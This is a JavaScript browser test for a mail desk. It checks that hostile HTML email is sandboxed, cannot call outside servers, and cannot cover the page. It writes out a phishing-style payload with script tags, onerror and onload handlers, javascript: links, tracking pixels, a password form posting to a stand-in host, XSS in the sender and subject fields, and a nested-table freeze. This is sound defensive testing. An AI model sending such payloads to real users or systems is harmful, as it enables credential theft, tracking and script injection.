// Mail that wants to do harm: to the agent's desk, to its looks, or to the
// customer's agent's privacy.
import assert from 'node:assert/strict'
import { bubble, row, signIn } from '../stage/browser.mjs'
import { post } from '../stage/post.mjs'
import { holds, until } from '../stage/until.mjs'
import { createServer } from 'node:http'
import { once } from 'node:events'

export const title = 'Mail that wants to do harm'

/** watcher is somebody else's server: whoever asks it for something is counted. */
async function watcher() {
  const asked = []
  const server = createServer((req, res) => {
    asked.push(req.url)
    res.writeHead(200, { 'content-type': req.url.includes('.css') ? 'text/css' : 'image/gif' })
    res.end(Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'))
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  return { asked, url: `http://127.0.0.1:${server.address().port}`, stop: () => { server.closeAllConnections(); server.close() } }
}

const evil = (u) => `<html><head>
<meta http-equiv="refresh" content="0;url=${u}/refresh"><base href="${u}/"><link rel="stylesheet" href="${u}/sheet.css"><link rel="prefetch" href="${u}/prefetch">
<style>@import url("${u}/import.css"); body{background:url(${u}/body.gif)} p{color:#112233} * {position:fixed!important}</style></head>
<body onload="fetch('${u}/onload')" background="${u}/background.gif">
<script>parent.postMessage('owned','*');fetch('${u}/script')</script><script src="${u}/evil.js"></script>
<h2>Your invoice</h2><p>The honest part of this letter.</p>
<img src="${u}/pixel.gif?who=agent" width="1" height="1"><img src=x onerror="fetch('${u}/onerror')"><img srcset="${u}/srcset.gif 2x" alt="">
<div style="position:fixed;inset:0;z-index:9999;background:url(${u}/cover.gif) red">Your session has ended. Sign in again.</div>
<form action="${u}/form" method="post"><input name="password" autofocus><button formaction="${u}/button">Sign in</button></form>
<iframe src="${u}/frame"></iframe><object data="${u}/object"></object><embed src="${u}/embed"><video src="${u}/video" poster="${u}/poster.gif" autoplay></video><audio src="${u}/audio" autoplay></audio>
<svg onload="fetch('${u}/svg')"><image href="${u}/svg.gif"/><use href="${u}/use.svg#x"/><style>@import url(${u}/svg.css)</style></svg><math><mtext><img src=x onerror=fetch('${u}/math')></mtext></math>
<a href="javascript:fetch('${u}/link')">your account</a> <a href="${u}/good" ping="${u}/ping" target="_top">a real link</a>
<table background="${u}/table.gif"><tr><td style="background-image:url('${u}/cell.gif')">cell</td></tr></table></body></html>`

export default async function (stage, step) {
  const { hub, relay } = stage
  const outside = await watcher()
  let desk
  const beyond = []
  try {
    await step('it is shown, and nothing of it runs or asks anybody for anything', async () => {
      await hub.mailInbox(relay)
      desk = await signIn(stage)
      desk.on('request', (r) => { if (!r.url().startsWith(hub.url) && !/^(data|blob):/.test(r.url())) beyond.push(r.url()) })
      await desk.evaluate(() => addEventListener('message', (e) => { window.told = [...(window.told ?? []), e.data] }))
      await post(hub.smtp, { from: 'mallory@bad.example', name: '<img src=x onerror=alert(1)> Mallory', subject: '<script>alert(1)</script> Invoice', text: 'Plain words', html: evil(outside.url) })
      await row(desk, 'Invoice').click()
      await bubble(desk, 'Mallory').locator('iframe').waitFor()
      const frame = await until('the letter is drawn', () => desk.frames().find((f) => f !== desk.mainFrame() && f.url().startsWith(hub.url)))
      await frame.getByText('The honest part of this letter.').waitFor()
      await desk.waitForLoadState('networkidle')
      await holds('nobody outside is asked', () => outside.asked.length === 0 && beyond.length === 0, 1500)
      assert.equal(await desk.evaluate(() => window.told), undefined)
      const armed = await frame.locator('script, form, iframe, object, embed, link, meta[http-equiv=refresh], base[href], [onload], [onerror]').evaluateAll((all) => all.map((el) => el.outerHTML))
      assert.deepEqual(armed, [])
      assert.equal(await frame.locator('a[href^="javascript:"], a[ping]').count(), 0)
    })

    await step('it cannot cover the desk, nor leave its card', async () => {
      const card = await bubble(desk, 'Mallory').locator('iframe').boundingBox()
      const thread = await desk.locator('#thread').boundingBox()
      assert.ok(card.x >= thread.x && card.x + card.width <= thread.x + thread.width + 1, 'the letter is wider than the conversation')
      const sandbox = await bubble(desk, 'Mallory').locator('iframe').getAttribute('sandbox')
      assert.ok(!/allow-(scripts|same-origin|forms|top-navigation)/.test(sandbox), sandbox)
      assert.equal(new URL(desk.url()).origin, hub.url)
    })

    await step('a script in a name or a subject is text', async () => {
      await row(desk, '<script>alert(1)</script> Invoice').waitFor()
      assert.equal(await desk.locator('img[src="x"]').count(), 0)
    })

    await step('images come on a click, and through the hub: the sender never sees the desk', async () => {
      await desk.getByRole('button', { name: 'Show images' }).click()
      await until('the hub has fetched the picture', () => outside.asked.some((p) => p.startsWith('/pixel.gif')))
      await holds('the browser itself asks nobody', () => beyond.length === 0, 500)
      assert.deepEqual(outside.asked.filter((p) => !/\.gif/.test(p)), [], 'only pictures')
    })

    await step('ten thousand nested tables do not freeze the desk', async () => {
      await post(hub.smtp, { from: 'mallory@bad.example', subject: 'Deep', text: 'deep', html: `<p>bottom</p>${'<table><tr><td>'.repeat(10_000)}x` })
      await row(desk, 'Deep').waitFor()
      const begun = Date.now()
      await row(desk, 'Deep').click()
      await desk.getByRole('heading', { name: 'Deep' }).waitFor()
      await desk.keyboard.press('r')
      await until('the desk listens', () => desk.evaluate(() => document.activeElement?.id === 'composer-text'))
      assert.ok(Date.now() - begun < 3000, `it took ${Date.now() - begun} ms`)
    })
  } finally { outside.stop() }
}
